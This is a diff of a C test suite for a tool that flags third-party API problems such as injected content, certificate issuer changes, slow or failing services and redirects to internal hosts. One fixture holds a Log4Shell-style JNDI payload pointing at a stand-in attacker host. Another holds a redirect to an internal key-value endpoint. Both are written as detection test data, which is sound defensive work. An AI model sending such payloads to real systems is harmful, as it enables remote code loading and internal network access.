@@ -9,30 +9,6 @@
 #define CARD "{\"card_number\":\"%s\"}"
 #define MAIL "{\"email\":\"%s@mail.example.org\"}"
 
-struct wanted {
-	const char *rule;
-	struct yg_finding finding;
-	bool found;
-};
-
-static void look_for(void *ctx, const struct yg_finding *finding)
-{
-	struct wanted *wanted = ctx;
-
-	if (strcmp(finding->rule->id, wanted->rule) != 0)
-		return;
-	wanted->finding = *finding;
-	wanted->found = true;
-}
-
-static struct wanted find(struct scene *scene, const char *rule)
-{
-	struct wanted wanted = { .rule = rule };
-
-	assert_true(yg_knowledge_findings(scene->knowledge, look_for, &wanted) >= 0);
-	return wanted;
-}
-
 static const struct sent {
 	const char *name, *rule;
 	enum yg_severity severity;
@@ -117,7 +93,7 @@ static void what_is_sent_and_what_comes_back_is_judged(void **state)
 	(void)state;
 	for (size_t i = 0; i < YG_ARRAY_SIZE(cases); i++) {
 		SCENE_CLEANUP struct scene scene;
-		struct wanted wanted;
+		struct scene_found wanted;
 
 		print_message("%s\n", cases[i].name);
 		scene_open(&scene, (struct yg_knowledge_options){ 0 });
@@ -133,8 +109,8 @@ static void what_is_sent_and_what_comes_back_is_judged(void **state)
 			call.answer = "{}";
 			scene_show(&scene, &call);
 		}
-		wanted = find(&scene, cases[i].rule);
-		assert_int_equal(wanted.found, cases[i].cause != NULL);
+		wanted = scene_find(&scene, cases[i].rule);
+		assert_int_equal(wanted.count > 0, cases[i].cause != NULL);
 		if (!cases[i].cause)
 			continue;
 		assert_int_equal(wanted.finding.severity, cases[i].severity);
@@ -159,7 +135,7 @@ static void shake(struct scene *scene, const char *host, const char *issuer)
 static void another_issuer_is_told_of_hosts_that_are_asked(void **state)
 {
 	SCENE_CLEANUP struct scene scene;
-	struct wanted wanted;
+	struct scene_found wanted;
 
 	(void)state;
 	scene_open(&scene, (struct yg_knowledge_options){ 0 });
@@ -169,12 +145,12 @@ static void another_issuer_is_told_of_hosts_that_are_asked(void **state)
 		shake(&scene, "api.example.com", "Old CA");
 		shake(&scene, "other.example.com", "Old CA");
 	}
-	assert_false(find(&scene, "third-party-issuer-change").found);
+	assert_int_equal(scene_find(&scene, "third-party-issuer-change").count, 0);
 	shake(&scene, "other.example.com", "Rogue CA");
-	assert_false(find(&scene, "third-party-issuer-change").found);
+	assert_int_equal(scene_find(&scene, "third-party-issuer-change").count, 0);
 	shake(&scene, "api.example.com", "Rogue CA");
-	wanted = find(&scene, "third-party-issuer-change");
-	assert_true(wanted.found);
+	wanted = scene_find(&scene, "third-party-issuer-change");
+	assert_true(wanted.count > 0);
 	assert_string_equal(wanted.finding.service, "api.example.com");
 	assert_string_equal(wanted.finding.cause,
 			    "The issuer is Rogue CA, after 21 handshakes with others");
@@ -208,7 +184,8 @@ static void a_third_party_that_fails_is_told_of(void **state)
 		/* A 5xx alone makes no endpoint. */
 		call_party(&scene, 1, 0, 1);
 		call_party(&scene, rows[i].calls, rows[i].failed, 1);
-		assert_int_equal(find(&scene, "third-party-failing").found, rows[i].found);
+		assert_int_equal(scene_find(&scene, "third-party-failing").count > 0,
+				 rows[i].found);
 	}
 }
 
@@ -338,16 +315,16 @@ static void what_an_answer_brings_in_is_told(void **state)
 		const struct brought *row = &brought[i];
 		const char *rule = scene_or(row->rule, "third-party-injection");
 		SCENE_CLEANUP struct scene scene;
-		struct wanted wanted;
+		struct scene_found wanted;
 
 		print_message("%s\n", row->name);
 		scene_open(&scene, (struct yg_knowledge_options){ 0 });
 		if (row->usual)
 			ask_party(&scene, row, row->usual, row->before);
-		assert_false(find(&scene, rule).found);
+		assert_int_equal(scene_find(&scene, rule).count, 0);
 		ask_party(&scene, row, row->bad, 1);
-		wanted = find(&scene, rule);
-		assert_int_equal(wanted.found, row->cause != NULL);
+		wanted = scene_find(&scene, rule);
+		assert_int_equal(wanted.count > 0, row->cause != NULL);
 		if (!row->cause)
 			continue;
 		assert_string_equal(wanted.finding.cause, row->cause);
@@ -366,11 +343,13 @@ static void what_was_brought_in_is_resolved_and_comes_back(void **state)
 	scene_open(&scene, (struct yg_knowledge_options){ 0 });
 	ask_party(&scene, row, row->usual, 4);
 	ask_party(&scene, row, row->bad, 3);
-	assert_int_equal(find(&scene, "third-party-injection").finding.state, YG_STATE_OPEN);
+	assert_int_equal(scene_find(&scene, "third-party-injection").finding.state, YG_STATE_OPEN);
 	ask_party(&scene, row, row->usual, 2000);
-	assert_int_equal(find(&scene, "third-party-injection").finding.state, YG_STATE_RESOLVED);
+	assert_int_equal(scene_find(&scene, "third-party-injection").finding.state,
+			 YG_STATE_RESOLVED);
 	ask_party(&scene, row, row->bad, 64);
-	assert_int_equal(find(&scene, "third-party-injection").finding.state, YG_STATE_REOPENED);
+	assert_int_equal(scene_find(&scene, "third-party-injection").finding.state,
+			 YG_STATE_REOPENED);
 }
 
 static void what_others_are_answered_by_this_host_is_not_looked_at(void **state)
@@ -384,7 +363,7 @@ static void what_others_are_answered_by_this_host_is_not_looked_at(void **state)
 					   .target = "/v1/items",
 					   .tls = true,
 					   .answer = "{\"a\":\"${jndi:ldap://evil.example/a}\"}" });
-	assert_false(find(&scene, "third-party-injection").found);
+	assert_int_equal(scene_find(&scene, "third-party-injection").count, 0);
 }
 
 static void a_redirect_to_an_internal_host_is_that(void **state)
@@ -402,9 +381,9 @@ static void a_redirect_to_an_internal_host_is_that(void **state)
 					 .status = 302,
 					 .field = { YG_SLICE("Location"),
 						    YG_SLICE("http://[::1]:8500/v1/kv") } });
-	assert_string_equal(find(&scene, "third-party-internal-url").finding.cause,
+	assert_string_equal(scene_find(&scene, "third-party-internal-url").finding.cause,
 			    "The answer 302 leads to the internal host ::1");
-	assert_false(find(&scene, "third-party-redirect").found);
+	assert_int_equal(scene_find(&scene, "third-party-redirect").count, 0);
 }
 
 static void calls_that_have_no_end_fail(void **state)
@@ -436,7 +415,8 @@ static void calls_that_have_no_end_fail(void **state)
 		call.server = FAR;
 		for (uint32_t k = 0; k < 40; k++)
 			scene_show(&scene, &call);
-		assert_int_equal(find(&scene, "third-party-failing").found, rows[i].found);
+		assert_int_equal(scene_find(&scene, "third-party-failing").count > 0,
+				 rows[i].found);
 	}
 }
 
@@ -455,7 +435,7 @@ static void another_kind_of_answer_is_odd(void **state)
 	(void)state;
 	for (size_t i = 0; i < YG_ARRAY_SIZE(rows); i++) {
 		SCENE_CLEANUP struct scene scene;
-		struct wanted wanted;
+		struct scene_found wanted;
 
 		scene_open(&scene, (struct yg_knowledge_options){ 0 });
 		call_party(&scene, 28, 0, 1);
@@ -466,8 +446,8 @@ static void another_kind_of_answer_is_odd(void **state)
 								 .tls = true,
 								 .answer = rows[i].answer,
 								 .type = rows[i].type });
-		wanted = find(&scene, "third-party-odd-answer");
-		assert_int_equal(wanted.found, rows[i].cause != NULL);
+		wanted = scene_find(&scene, "third-party-odd-answer");
+		assert_int_equal(wanted.count > 0, rows[i].cause != NULL);
 		if (rows[i].cause)
 			assert_string_equal(wanted.finding.cause, rows[i].cause);
 	}
@@ -482,10 +462,10 @@ static void another_schema_is_told_as_theirs(void **state)
 	scene_open(&scene, (struct yg_knowledge_options){ 0 });
 	ask_party(&scene, &row,
 		  "[{\"a\":1},{\"a\":2},{\"a\":3},{\"a\":4},{\"a\":5},{\"a\":6},{\"a\":7}]", 24);
-	assert_false(find(&scene, "third-party-schema-change").found);
+	assert_int_equal(scene_find(&scene, "third-party-schema-change").count, 0);
 	ask_party(&scene, &row, "[{\"a\":\"one\"}]", 8);
-	assert_true(find(&scene, "third-party-schema-change").found);
-	assert_false(find(&scene, "schema-drift").found);
+	assert_true(scene_find(&scene, "third-party-schema-change").count > 0);
+	assert_int_equal(scene_find(&scene, "schema-drift").count, 0);
 }
 
 static void handshakes_that_are_refused_are_told(void **state)
@@ -502,12 +482,12 @@ static void handshakes_that_are_refused_are_told(void **state)
 			call_party(&scene, 1, 0, 1);
 		yg_knowledge_handshake(scene.knowledge, &handshake);
 	}
-	assert_false(find(&scene, "third-party-unreachable").found);
+	assert_int_equal(scene_find(&scene, "third-party-unreachable").count, 0);
 	handshake.is_refused = true;
 	for (uint32_t i = 0; i < 64; i++)
 		yg_knowledge_handshake(scene.knowledge, &handshake);
-	assert_true(find(&scene, "third-party-unreachable").found);
-	assert_string_equal(find(&scene, "third-party-unreachable").finding.service,
+	assert_true(scene_find(&scene, "third-party-unreachable").count > 0);
+	assert_string_equal(scene_find(&scene, "third-party-unreachable").finding.service,
 			    "api.example.com");
 }
 
@@ -519,10 +499,11 @@ static void a_third_party_that_is_waited_for_is_told_of(void **state)
 	scene_open(&scene, (struct yg_knowledge_options){ 0 });
 	call_party(&scene, 10, 0, 29000);
 	call_party(&scene, 2, 0, 31000);
-	assert_false(find(&scene, "third-party-slow").found);
+	assert_int_equal(scene_find(&scene, "third-party-slow").count, 0);
 	call_party(&scene, 1, 0, 31000);
-	assert_true(find(&scene, "third-party-slow").found);
-	assert_string_equal(find(&scene, "third-party-slow").finding.cause, "An answer took 31 s");
+	assert_true(scene_find(&scene, "third-party-slow").count > 0);
+	assert_string_equal(scene_find(&scene, "third-party-slow").finding.cause,
+			    "An answer took 31 s");
 }
 
 int main(void)
